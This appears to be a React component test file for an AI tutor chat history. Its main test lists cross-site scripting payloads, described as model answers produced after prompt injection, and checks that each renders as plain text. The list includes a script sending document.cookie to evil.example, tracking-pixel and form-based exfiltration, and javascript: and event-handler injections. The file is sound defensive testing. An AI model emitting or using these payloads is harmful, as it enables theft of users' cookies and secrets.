import { cleanup, fireEvent, render } from '@testing-library/react'
import i18next from 'i18next'
import { initReactI18next } from 'react-i18next'
import { beforeAll, expect, test } from 'vitest'
import locale from '../locales/en.json' with { type: 'json' }
import { ChatHistory } from './chat-history.tsx'
import { neo } from './neo.testing.ts'

const show = (role: 'user' | 'assistant', content: string) =>
  render(<ChatHistory professor={neo} isPending={false} turns={[{ role, content, timestamp: '2026-11-21T10:00:00Z', professor: 'neo' }]} />)

beforeAll(async () => {
  await i18next.use(initReactI18next).init({ lng: 'en', resources: { en: { professors: locale } }, interpolation: { escapeValue: false } })
})

/** Malicious model answers after a prompt injection. */
const injected = [
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<img src=x onerror="alert(1)">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](java&#10;script:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox)',
  '[home](//evil.example/login)',
  '![leak](https://evil.example/pixel.png?q=secret)',
  '![leak][1]\n\n[1]: https://evil.example/pixel.png',
  '<style>@import "https://evil.example/a.css"</style>',
  '<form action="https://evil.example"><input name=key></form>',
  '<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '```html\n<script>alert(1)</script>\n```',
  '<details open ontoggle=alert(1)>',
  'https://evil.example/<script>alert(1)</script>',
]

test.each(injected)('S36: %s stays text', (content) => {
  for (const role of ['assistant', 'user'] as const) {
    const { container } = show(role, content)
    expect(container.querySelector('script, img, iframe, svg, style, form, input, link, base, math, details, object, embed')).toBeNull()
    for (const element of container.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^src|^srcdoc|^action|^style$/)
        expect(`${name}=${value}`).not.toMatch(/^href=(?!https:\/\/evil\.example\/)/)
      }
    }
    cleanup()
  }
})

test('before anything is asked the professor greets', () => {
  const { container } = render(<ChatHistory professor={neo} isPending={false} turns={[]} />)
  expect(container.textContent).toContain('I am Neo.')
})

test('an answer that arrives is followed, unless the reader has scrolled up, and again from their next question on', () => {
  const turn = (role: 'user' | 'assistant', content: string) => ({
    role,
    content,
    timestamp: `${content.length}`,
    professor: 'neo' as const,
  })
  const turns = [turn('user', 'Why?'), turn('assistant', 'Because')]
  const of = (given: typeof turns) => <ChatHistory professor={neo} isPending turns={given} />
  const { container, rerender } = render(of(turns))
  const box = container.querySelector('section') as HTMLElement
  for (const [name, value] of [
    ['scrollHeight', 500],
    ['clientHeight', 100],
  ] as const)
    Object.defineProperty(box, name, { configurable: true, get: () => value })
  const moveTo = (top: number) => {
    box.scrollTop = top
    fireEvent.scroll(box)
  }
  moveTo(400)
  rerender(of([turn('user', 'Why?'), turn('assistant', 'Because of')]))
  expect(box.scrollTop).toBe(500)
  moveTo(120)
  rerender(of([turn('user', 'Why?'), turn('assistant', 'Because of the')]))
  expect(box.scrollTop).toBe(120)
  rerender(of([turn('user', 'Why?'), turn('assistant', 'Because of the'), turn('user', 'And then?')]))
  expect(box.scrollTop).toBe(500)
  cleanup()
})
